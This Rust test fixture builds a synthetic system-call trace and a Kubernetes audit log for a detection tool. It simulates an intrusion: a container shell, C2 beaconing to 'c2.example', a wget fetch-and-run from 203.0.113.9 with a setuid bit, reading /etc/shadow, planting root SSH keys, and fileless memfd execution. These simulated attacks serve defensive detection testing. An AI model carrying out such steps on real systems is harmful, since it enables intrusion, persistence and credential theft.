//! A capture in which every saved query finds something, and in which each thing is there once.

use casebook_fixtures::{Container, Endpoint, Exec, Proc, Trace, flags};

/// A DNS question for an address.
fn question(name: &str) -> Vec<u8> {
    let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(label.len() as u8);
        bytes.extend(label.as_bytes());
    }
    bytes.extend([0, 0, 1, 0, 1]);
    bytes
}

/// The answer to it.
fn answer(name: &str, address: [u8; 4]) -> Vec<u8> {
    let mut bytes = question(name);
    bytes[2..8].copy_from_slice(&[0x81, 0x80, 0, 1, 0, 1]);
    bytes.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
    bytes.extend(address);
    bytes
}

/// The capture.
pub(crate) fn capture() -> Vec<u8> {
    let mut trace = Trace::new("web1");
    let sshd = trace.process(Proc::new(800, "/usr/sbin/sshd"));
    let cron = trace.process(Proc::new(700, "/usr/sbin/cron"));
    let shell = trace.process(Proc::new(900, "/usr/bin/bash").parent(sshd).uid(1000).login(1000, 34816));
    let pod = Container::docker(&"c0ffee".repeat(11)[..64], "web", "nginx", "1.25").in_pod("shop", "web-0", "uid-0");
    let nginx = trace.process(Proc::new(1200, "/usr/sbin/nginx").uid(33).inside(&pod, 1));
    trace.container(&pod);
    let here = |port| Endpoint::new("10.0.0.5", port);
    let (server, resolver) = (Endpoint::new("203.0.113.9", 443), Endpoint::new("10.0.0.2", 53));

    // A listener, and a visitor of it.
    trace.listen(nginx, Endpoint::new("0.0.0.0", 80));
    let visit = trace.accept(nginx, Endpoint::new("198.51.100.4", 50_000), here(80));
    trace.wait_ms(5_000).read(nginx, visit, b"GET / HTTP/1.1\r\n\r\n");
    trace.write(nginx, visit, b"HTTP/1.1 200 OK\r\n\r\n");

    // A shell in the container.
    let inside = trace.spawn(nginx, "/bin/sh", &["sh", "-c", "id"]);
    trace.exit(inside, 0);

    // A name is looked up, and what it stands for called five times, a second apart; more goes out than comes in.
    let beacon = trace.spawn(shell, "/tmp/.agent", &["/tmp/.agent", "--quiet"]);
    let asked = trace.send_datagram(beacon, here(40_000), resolver, &question("c2.example"));
    trace.read(beacon, asked, &answer("c2.example", [203, 0, 113, 9]));
    for call in 0..5 {
        let fd = trace.connect(beacon, here(41_000 + call), server);
        trace.write(beacon, fd, &[b'x'; 100]).read(beacon, fd, b"ok").close(beacon, fd);
        trace.wait_ms(1_000);
    }

    // Something is written, made executable with the rights of its owner, run, and removed.
    let wget = trace.spawn(shell, "/usr/bin/wget", &["wget", "-O", "/tmp/x", "http://203.0.113.9/x"]);
    let fd = trace.create(wget, "/tmp/x");
    trace.write(wget, fd, b"\x7fELF").close(wget, fd);
    trace.chmod(wget, "/tmp/x", flags::S_ISUID | 0o755).exit(wget, 0);
    let dropped = trace.spawn(shell, "/tmp/x", &["/tmp/x"]);
    trace.unlink(dropped, "/tmp/x");
    trace.ptrace(dropped, "PTRACE_ATTACH", sshd, 0);
    trace.init_module(dropped, "debug=1", 0);
    trace.setuid(dropped, 0, 0);
    let secret = trace.open(dropped, "/etc/shadow", flags::READ);
    trace.read(dropped, secret, b"root:*:").close(dropped, secret);
    let log = trace.open(dropped, "/var/log/auth.log", flags::WRITE);
    trace.close(dropped, log);
    let keys = trace.create(dropped, "/root/.ssh/authorized_keys");
    trace.write(dropped, keys, b"ssh-ed25519 AAAA").close(dropped, keys);
    trace.memfd(dropped, "stage2");
    trace.exec(dropped, &Exec::new("/proc/self/fd/7").resolved("/memfd:stage2 (deleted)").comm("stage2").memfd());
    trace.exit(dropped, 0);

    // sudo with a wrong password, then with the right one; a failed login.
    let sudo = trace.spawn(shell, "/usr/bin/sudo", &["sudo", "id"]);
    trace.exit(sudo, 1);
    let sudo = trace.spawn(shell, "/usr/bin/sudo", &["sudo", "id"]);
    let id = trace.spawn(sudo, "/usr/bin/id", &["id"]);
    trace.exit(id, 0).exit(sudo, 0);
    let login = trace.fork(sshd);
    let btmp = trace.open(login, "/var/log/btmp", flags::WRITE);
    trace.write(login, btmp, &[0; 384]).close(login, btmp).exit(login, 255);

    // A job of cron, which a signal ends.
    let job = trace.spawn(cron, "/usr/local/bin/job", &["/usr/local/bin/job"]);
    trace.emit(
        job.0,
        casebook_formats::tables::ppme::PPME_PROCEXIT_1_E,
        &[("status", 11_i64.into()), ("ret", 0_i64.into()), ("sig", 11_i64.into()), ("core", 0_i64.into())],
    );
    trace.finish().unwrap()
}

/// An audit log with a command run in a pod.
pub(crate) const AUDIT: &str = concat!(
    r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a1","stage":"ResponseStarted","verb":"create","#,
    r#""requestURI":"/api/v1/namespaces/shop/pods/web-0/exec?command=sh","user":{"username":"mallory","groups":["devs"]},"#,
    r#""sourceIPs":["198.51.100.4","10.0.0.1"],"userAgent":"kubectl/v1.30","objectRef":{"resource":"pods","#,
    r#""namespace":"shop","name":"web-0","subresource":"exec"},"responseStatus":{"code":101},"#,
    r#""stageTimestamp":"2026-03-02T09:00:01.000000Z"}"#,
    "\n"
);
